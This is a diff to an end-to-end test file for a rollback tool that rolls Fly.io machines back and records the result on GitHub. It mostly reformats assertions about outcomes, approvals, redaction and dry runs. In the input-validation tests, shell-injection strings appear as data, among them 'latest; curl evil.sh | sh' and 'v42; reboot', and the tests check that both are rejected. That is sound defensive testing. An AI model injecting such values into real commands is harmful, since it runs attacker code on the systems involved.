@@ -18,14 +18,35 @@ afterEach(async () => {
 describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", () => {
   it("a clean rollback: machines rolled, probes up, deployment success, incident commented, record committed", async () => {
     h = await startHarness(threeMachines());
-    h.gh.state.issues.set(7, { number: 7, id: 7007, title: "agent-service down", body: "", state: "open", stateReason: null, labels: ["incident"], assignees: [], user: "bot", createdAt: "", updatedAt: "", closedAt: null, deleted: false });
+    h.gh.state.issues.set(7, {
+      number: 7,
+      id: 7007,
+      title: "agent-service down",
+      body: "",
+      state: "open",
+      stateReason: null,
+      labels: ["incident"],
+      assignees: [],
+      user: "bot",
+      createdAt: "",
+      updatedAt: "",
+      closedAt: null,
+      deleted: false,
+    });
     const record = await runRollback(h.deps({ incident: 7 }));
 
     expect(record.outcome).toBe("success");
     expect(record.summary).toMatch(/all 3 machine\(s\) run .*deployment-042 and the probes see it up/);
     expect(record).toMatchObject({
       dispatchedBy: "oncall-omar",
-      approvedBy: [{ login: "manager-mia", state: "approved", comment: "P1, approved per support plan", environments: ["production"] }],
+      approvedBy: [
+        {
+          login: "manager-mia",
+          state: "approved",
+          comment: "P1, approved per support plan",
+          environments: ["production"],
+        },
+      ],
       reason: "P1: error rate 12% since v43",
       from: [IMG(43)],
       to: IMG(42),
@@ -37,7 +58,11 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
     expect(record.timings.rolloutMs).toBeGreaterThanOrEqual(0);
 
     const [deployment] = deployState(h.gh.state).deployments;
-    expect(deployment).toMatchObject({ environment: "production", task: "rollback", payload: { run: String(RUN_ID), service: "agent-service", to: IMG(42) } });
+    expect(deployment).toMatchObject({
+      environment: "production",
+      task: "rollback",
+      payload: { run: String(RUN_ID), service: "agent-service", to: IMG(42) },
+    });
     expect(deployment!.statuses.map((s) => [s.state, s.environmentUrl])).toEqual([
       ["in_progress", "https://hotdash-agent-service.fly.dev"],
       ["success", "https://hotdash-agent-service.fly.dev"],
@@ -46,7 +71,12 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
     expect(comment.body).toContain(`<!-- hotdash-ops:rollback run=${RUN_ID} -->`);
     expect(comment.body).toContain("approved by:** @manager-mia");
 
-    expect(h.commits).toEqual([{ paths: [`reports/rollbacks/${record.id}.json`, `reports/rollbacks/${record.id}.md`], message: `ops: rollback agent-service to ${IMG(42)} (success) [skip ci]` }]);
+    expect(h.commits).toEqual([
+      {
+        paths: [`reports/rollbacks/${record.id}.json`, `reports/rollbacks/${record.id}.md`],
+        message: `ops: rollback agent-service to ${IMG(42)} (success) [skip ci]`,
+      },
+    ]);
     const saved = JSON.parse(readFileSync(join(h.dataDir, `reports/rollbacks/${record.id}.json`), "utf8"));
     expect(saved.machines.map((m: { runningImage: string }) => m.runningImage)).toEqual([IMG(42), IMG(42), IMG(42)]);
     expect(h.gh.violations).toEqual([]);
@@ -65,16 +95,22 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
     expect(deployState(h.gh.state).deployments[0]!.statuses.map((s) => s.state)).toEqual(["in_progress", "failure"]);
     const md = renderRollbackMarkdown(record);
     expect(md).toContain("| `m2` | iad | failed | `registry.fly.io/hotdash-agent-service:deployment-041` | starting |");
-    expect(md).toContain("| `m3` | lhr | not-attempted | `registry.fly.io/hotdash-agent-service:deployment-043` | started |");
+    expect(md).toContain(
+      "| `m3` | lhr | not-attempted | `registry.fly.io/hotdash-agent-service:deployment-043` | started |",
+    );
     expect(h.commits[0]!.message).toContain("(partial)");
   });
 
   it("verification decides: machines switched but the probe stays red is a failure", async () => {
     h = await startHarness(threeMachines());
     h.health.status = 503;
-    const record = await runRollback(h.deps({ target: IMG(41) }, { timeouts: { verifyMs: 10_000, verifyIntervalMs: 2_000, checksPollMs: 1_000 } }));
+    const record = await runRollback(
+      h.deps({ target: IMG(41) }, { timeouts: { verifyMs: 10_000, verifyIntervalMs: 2_000, checksPollMs: 1_000 } }),
+    );
     expect(record.outcome).toBe("failure");
-    expect(record.summary).toMatch(/all 3 machine\(s\) run .*deployment-041, but verification failed: agent-service did not stay up within 10 s; last probe: down/);
+    expect(record.summary).toMatch(
+      /all 3 machine\(s\) run .*deployment-041, but verification failed: agent-service did not stay up within 10 s; last probe: down/,
+    );
     expect(record.verification!.rounds.length).toBe(6);
     expect(deployState(h.gh.state).deployments[0]!.statuses.at(-1)!.state).toBe("failure");
   });
@@ -83,7 +119,9 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
     h = await startHarness(threeMachines());
     const record = await runRollback(h.deps({ dryRun: true, incident: 7 }));
     expect(record.outcome).toBe("dry-run");
-    expect(record.plan.join("\n")).toMatch(/roll 3 machine\(s\) to .*deployment-042[\s\S]*1\. m1 \(m1-name, iad, started\)[\s\S]*3\. m3/);
+    expect(record.plan.join("\n")).toMatch(
+      /roll 3 machine\(s\) to .*deployment-042[\s\S]*1\. m1 \(m1-name, iad, started\)[\s\S]*3\. m3/,
+    );
     expect(h.fly.mutations()).toEqual([]);
     expect(h.gh.requests).toEqual([]);
     expect(h.commits).toEqual([]);
@@ -92,15 +130,21 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
 
   it("an unknown service, a service without rollback, an invalid ref: clear errors before any request", async () => {
     h = await startHarness(threeMachines());
-    await expect(runRollback(h.deps({ service: "nope" }))).rejects.toThrow(/input "service": unknown service "nope"; .* Services that declare a rollback: agent-service/);
-    await expect(runRollback(h.deps({ service: "shopify-admin" }))).rejects.toThrow(/"shopify-admin" declares no rollback target; add `rollback:`/);
+    await expect(runRollback(h.deps({ service: "nope" }))).rejects.toThrow(
+      /input "service": unknown service "nope"; .* Services that declare a rollback: agent-service/,
+    );
+    await expect(runRollback(h.deps({ service: "shopify-admin" }))).rejects.toThrow(
+      /"shopify-admin" declares no rollback target; add `rollback:`/,
+    );
     const bad = await runRollback(h.deps({ target: "latest; curl evil.sh | sh" })).catch((e: unknown) => e);
     expect(bad).toBeInstanceOf(InputError);
     expect(String(bad)).toMatch(/input "target": "latest; curl evil.sh \| sh" is not valid/);
     expect(h.fly.requests).toEqual([]);
     expect(h.gh.requests).toEqual([]);
     expect(() => planOnly(h!.config, { service: "nope", reason: "x", dryRun: false })).toThrow(/unknown service/);
-    expect(planOnly(h.config, { service: "agent-service", reason: "x", dryRun: false, target: "v42" })[0]).toMatch(/Fly app hotdash-agent-service, roll every machine to release v42/);
+    expect(planOnly(h.config, { service: "agent-service", reason: "x", dryRun: false, target: "v42" })[0]).toMatch(
+      /Fly app hotdash-agent-service, roll every machine to release v42/,
+    );
   });
 
   it("a leased machine stops everything before a change, and the record says so", async () => {
@@ -124,7 +168,21 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
 
   it("a re-run of the same workflow run finishes its deployment and comment instead of duplicating them", async () => {
     h = await startHarness(threeMachines());
-    h.gh.state.issues.set(7, { number: 7, id: 7007, title: "x", body: "", state: "open", stateReason: null, labels: [], assignees: [], user: "bot", createdAt: "", updatedAt: "", closedAt: null, deleted: false });
+    h.gh.state.issues.set(7, {
+      number: 7,
+      id: 7007,
+      title: "x",
+      body: "",
+      state: "open",
+      stateReason: null,
+      labels: [],
+      assignees: [],
+      user: "bot",
+      createdAt: "",
+      updatedAt: "",
+      closedAt: null,
+      deleted: false,
+    });
     await runRollback(h.deps({ incident: 7, target: "v42" }));
     await runRollback(h.deps({ incident: 7, target: "v42" }, { run: { id: RUN_ID, attempt: 2 } }));
     expect(deployState(h.gh.state).deployments.length).toBe(1);
@@ -134,11 +192,32 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
 
   it("keeps the Fly token out of the record, the summary, the log, the incident comment and every GitHub request", async () => {
     h = await startHarness(threeMachines({ m2: { neverStarts: true } }));
-    h.gh.state.issues.set(7, { number: 7, id: 7007, title: "x", body: "", state: "open", stateReason: null, labels: [], assignees: [], user: "bot", createdAt: "", updatedAt: "", closedAt: null, deleted: false });
+    h.gh.state.issues.set(7, {
+      number: 7,
+      id: 7007,
+      title: "x",
+      body: "",
+      state: "open",
+      stateReason: null,
+      labels: [],
+      assignees: [],
+      user: "bot",
+      createdAt: "",
+      updatedAt: "",
+      closedAt: null,
+      deleted: false,
+    });
     const record = await runRollback(h.deps({ incident: 7 }));
     const comment = h.gh.state.comments.find((c) => c.issue === 7)!.body;
     expect(comment).toContain("Rollback of Agent SDK: partial");
-    const everything = [JSON.stringify(record), renderRollbackMarkdown(record), h.logs.join("\n"), comment, JSON.stringify(h.gh.requests), readFileSync(join(h.dataDir, `reports/rollbacks/${record.id}.md`), "utf8")].join("\n");
+    const everything = [
+      JSON.stringify(record),
+      renderRollbackMarkdown(record),
+      h.logs.join("\n"),
+      comment,
+      JSON.stringify(h.gh.requests),
+      readFileSync(join(h.dataDir, `reports/rollbacks/${record.id}.md`), "utf8"),
+    ].join("\n");
     expect(everything).not.toContain(FLY_TOKEN);
     expect(h.fly.requests[0]!.headers.authorization).toBe(`Bearer ${FLY_TOKEN}`);
   });
@@ -146,7 +225,15 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
   it("the command provider: runs the filled argv without a shell, then verification decides", async () => {
     const script = "require('fs').writeFileSync(process.argv[1], JSON.stringify(process.argv.slice(2)))";
     const out = join(tmpdir(), `rollback-cmd-${process.pid}-${Date.now()}.json`);
-    h = await startHarness([], {}, { provider: "command", command: [process.execPath, "-e", script, "--", out, "deploy", "-a", "{service}", "--image", "{target}"], targetPattern: "^v\\d+$" });
+    h = await startHarness(
+      [],
+      {},
+      {
+        provider: "command",
+        command: [process.execPath, "-e", script, "--", out, "deploy", "-a", "{service}", "--image", "{target}"],
+        targetPattern: "^v\\d+$",
+      },
+    );
     const record = await runRollback(h.deps({ target: "v42" }, { env: {} }));
     expect(record.outcome).toBe("success");
     expect(JSON.parse(readFileSync(out, "utf8"))).toEqual(["deploy", "-a", "agent-service", "--image", "v42"]);
@@ -155,17 +242,31 @@ describe("runRollback end to end (Fly emulator, GitHub emulator, real probe)", (
     expect(h.fly.requests).toEqual([]);
     rmSync(out, { force: true });
 
-    const failing = await startHarness([], {}, { provider: "command", command: [process.execPath, "-e", "process.exit(4)", "{target}"], targetPattern: "^v\\d+$" });
+    const failing = await startHarness(
+      [],
+      {},
+      {
+        provider: "command",
+        command: [process.execPath, "-e", "process.exit(4)", "{target}"],
+        targetPattern: "^v\\d+$",
+      },
+    );
     const bad = await runRollback(failing.deps({ target: "v42" }, { env: {} }));
     await failing.close();
     expect(bad.outcome).toBe("failure");
-    expect(bad.summary).toMatch(/The rollback command failed \(exited with code 4\); the state of agent-service is unknown/);
+    expect(bad.summary).toMatch(
+      /The rollback command failed \(exited with code 4\); the state of agent-service is unknown/,
+    );
     expect(bad.verificationSkipped).toBe("the rollout did not complete");
-    await expect(runRollback(h.deps({ target: "v42; reboot" }, { env: {} }))).rejects.toThrow(/does not match agent-service's targetPattern/);
+    await expect(runRollback(h.deps({ target: "v42; reboot" }, { env: {} }))).rejects.toThrow(
+      /does not match agent-service's targetPattern/,
+    );
   });
 
   it("says which secret is missing and where to put it", async () => {
     h = await startHarness(threeMachines());
-    await expect(runRollback(h.deps({}, { env: {} }))).rejects.toThrow(/missing secret FLY_API_TOKEN: add it as an environment secret of `production`/);
+    await expect(runRollback(h.deps({}, { env: {} }))).rejects.toThrow(
+      /missing secret FLY_API_TOKEN: add it as an environment secret of `production`/,
+    );
   });
 });
